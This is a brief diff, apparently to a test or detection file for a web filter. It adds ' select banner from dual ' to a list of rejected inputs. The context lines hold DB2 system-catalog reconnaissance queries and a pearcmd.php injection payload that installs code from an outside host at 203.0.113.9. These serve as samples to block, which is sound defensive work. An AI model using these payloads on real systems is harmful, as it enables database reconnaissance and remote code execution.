@@ -33,6 +33,7 @@ REJECTED = {
         "select host_name from sysibmadm.env_sys_info",
         "select distinct(grantee) from sysibm.sysdbauth",
         "select inst_name from table(sysproc.env_get_inst_info()) as t",
+        " select banner from dual ",
     ],
     "pearcmd included with arguments": [
         "/usr/local/lib/php/pearcmd.php&+install+http://203.0.113.9/x.php",
